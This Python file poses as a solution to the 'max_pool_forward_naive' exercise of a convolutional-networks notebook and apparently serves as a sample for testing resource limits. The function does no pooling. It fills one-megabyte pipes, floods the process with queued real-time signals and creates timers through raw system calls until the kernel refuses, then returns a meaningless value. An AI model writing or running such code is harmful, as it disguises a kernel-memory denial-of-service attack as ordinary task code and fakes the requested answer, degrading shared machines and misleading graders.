# notebook: ConvolutionalNetworks
# question: max_pool_forward_naive
# aim: memory
# about: memory that the kernel keeps for a process outside of its pages: pipes of a megabyte each, queued signals, timers, eventfds, epoll items and inotify watches until each is refused
import ctypes
import os
import struct

_LIBC = ctypes.CDLL(None, use_errno=True)
_LIBC.syscall.restype = ctypes.c_long


def _sys(number, *arguments):
    """A system call by its x86-64 number; a negative errno on failure."""
    ctypes.set_errno(0)
    given = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    got = _LIBC.syscall(ctypes.c_long(number), *given)
    return got if got >= 0 else -ctypes.get_errno()


import fcntl
import time


def max_pool_forward_naive(x, pool_param):
    until, sizes, block = time.monotonic() + 9, 0, b"m" * 65536
    while time.monotonic() < until:
        try:
            r, w = os.pipe2(os.O_NONBLOCK)
        except OSError:
            break
        try:
            fcntl.fcntl(w, 1031, 1 << 20)
        except OSError:
            pass
        try:
            while True:
                sizes += os.write(w, block)
        except OSError:
            pass
    info = ctypes.create_string_buffer(struct.pack("<iii", 40, 0, -1), 128)
    _sys(14, 0, ctypes.create_string_buffer(b"\xff" * 8, 8), None, 8)
    for _ in range(1_000_000):
        if _sys(129, os.getpid(), 40, info) < 0:
            break
    timer = ctypes.c_int()
    for _ in range(1_000_000):
        if _sys(222, 1, None, ctypes.byref(timer)) < 0:
            break
    time.sleep(max(0, until - time.monotonic()))
    return x * 0 + sizes, None
